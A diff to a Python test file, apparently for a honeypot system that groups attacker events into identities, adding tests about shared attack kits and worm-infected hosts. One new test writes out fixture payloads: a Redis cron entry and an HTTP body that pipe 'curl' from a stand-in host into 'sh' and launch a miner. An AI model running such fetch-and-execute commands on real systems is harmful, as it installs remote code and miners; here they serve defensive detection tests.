@@ -20,7 +20,7 @@ from tests.decnet_workers.clusterer.scenes import (
     stack,
 )
 
-from decnet_core.events.catalogue import CertificateProbed, HttpRequest, ServiceRequest
+from decnet_core.events.catalogue import CertificateProbed, CommandRun, HttpRequest, ServiceRequest
 from decnet_core.events.envelope import Event
 from decnet_models.database.engine import reading, writing
 from decnet_models.identities.evidence_rows import forget
@@ -62,7 +62,7 @@ def test_of_an_address_that_several_people_share_nothing_is_learnt() -> None:
     assert not is_shared_address({"ssh_key": 2, "hassh": 1})
 
 
-@pytest.mark.parametrize("kind", ["ssh_key", "planted_key", "certificate", "wallet"])
+@pytest.mark.parametrize("kind", ["ssh_key", "planted_key", "wallet"])
 def test_what_four_with_keys_of_their_own_show_is_sold(kind: str) -> None:
     buyers = [shown((kind, name)) for name in "aabcd"]
     assert is_sold(URL, buyers)
@@ -74,10 +74,11 @@ def test_keys_that_replace_each_other_or_that_one_has_nearly_alone_are_no_sale()
     assert not is_sold(URL, chain)
     assert not is_sold(URL, [*[shown(("ssh_key", "a"))] * 8, *(shown(("ssh_key", name)) for name in "bcd")])
     assert not is_sold(URL, [shown(("host", name)) for name in "abcdef"])  # a server is not a key
+    assert not is_sold(URL, [shown(("certificate", name)) for name in "abcdef"])  # one may have several machines
 
 
 def test_a_key_does_not_contradict_itself() -> None:
-    assert not is_sold(("certificate", "x"), [frozenset({("certificate", "x"), ("url", name)}) for name in "abcd"])
+    assert not is_sold(("wallet", "x"), [frozenset({("wallet", "x"), ("url", name)}) for name in "abcd"])
     assert not may_be_sold(("ssh_key", "x"), 10)
     assert not may_be_sold(URL, 3)
 
@@ -137,6 +138,45 @@ def test_a_list_joins_nobody_if_two_who_try_it_have_keys_of_the_same_days(
     assert several(engine) == (groups(OF_A, OF_B, without) if one else groups(OF_A, OF_B))
 
 
+def lines_of(name: str, *numbers: int) -> list[CommandRun]:
+    """Return some of the commands that one person runs."""
+    return [command(f"{name}{number} --of-{name}-own") for number in numbers]
+
+
+@pytest.mark.parametrize(
+    ("days_of_b", "numbers", "one"),
+    [((4, 9), (1, 2), False), ((4, 9), (1,), True), ((21, 25), (1, 2), True)],
+    ids=["same days", "one command", "other days"],
+)
+def test_what_two_fetch_who_run_commands_of_their_own_in_the_same_days_is_a_kit_and_joins_nobody(
+    engine: Engine, days_of_b: tuple[int, int], numbers: tuple[int, ...], one: bool
+) -> None:
+    """An attacker with the kit and nothing else is nobody's then."""
+    fetched, only = file("f" * 64), "192.0.2.1"
+    sent = [event(only, fetched, DAY * 5)]
+    for name, addresses, days in (("hide", OF_A, (3, 12)), ("sweep", OF_B, days_of_b)):
+        shown = (fetched, *lines_of(name, *numbers))
+        sent += [event(each, line, DAY * day) for each in addresses for line in shown for day in days]
+    Follower(engine).run([*crowd(), *sent])
+    assert (groups([only, *OF_A, *OF_B]) == several(engine)) == one
+    if not one:
+        assert all(only not in members for members in several(engine))
+
+
+def test_a_kit_is_found_when_the_last_command_of_its_users_comes(engine: Engine) -> None:
+    """Somebody who does not show the kit runs it, too: what one address alone runs tells nothing of how others work."""
+    fetched = file("f" * 64)
+    sent = [event(each, fetched, DAY * day) for each in (OF_A[0], OF_B[0]) for day in (3, 12)]
+    for name, (user, other) in (("hide", OF_A), ("sweep", OF_B)):
+        sent += [event(user, line, DAY * day) for line in lines_of(name, 1, 2) for day in (3, 12)]
+        sent += [event(other, line, DAY * 4) for line in lines_of(name, 1)]
+    Follower(engine).run([*crowd(), *sent])
+    assert any({OF_A[0], OF_B[0]} <= members for members in several(engine))
+    others = (("hide", OF_A[1]), ("sweep", OF_B[1]))
+    Follower(engine).run([event(other, line, DAY * 4) for name, other in others for line in lines_of(name, 2)])
+    assert not any({OF_A[0], OF_B[0]} <= members for members in several(engine))
+
+
 @pytest.mark.parametrize(("lines", "one"), [(2, True), (1, False)])
 def test_who_replaces_key_and_machine_at_an_address_is_known_by_rare_commands_that_go_with_both_keys(
     engine: Engine, lines: int, one: bool
@@ -167,6 +207,19 @@ def test_nine_hosts_of_as_many_systems_are_infected_by_a_worm_and_nine_of_one_ar
     ]
     Follower(engine).run([*crowd(), *sent])
     assert several(engine) == (groups(hosts) if one else set())
+
+
+def test_what_some_hosts_of_a_worm_show_by_another_way_in_joins_them_no_more_than_its_server(engine: Engine) -> None:
+    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
+    mined = HttpRequest(method="POST", target="/x", body=f"curl http://w.example.net/s | sh; m -u 4{'7Kq3' * 23}Zp")
+    by_redis, by_web = [f"198.51.{number}.7" for number in range(9)], [f"203.0.{number}.7" for number in range(3)]
+    sent = [
+        event(each, shown, DAY * place)
+        for place, each in enumerate((*by_redis, *by_web))
+        for shown in (stored if each in by_redis else mined, stack(f"system {place}"))
+    ]
+    Follower(engine).run([*crowd(), *sent])
+    assert several(engine) == set()
 
 
 def test_a_certificate_of_four_whose_keys_contradict_each_other_joins_none_of_them(engine: Engine) -> None:
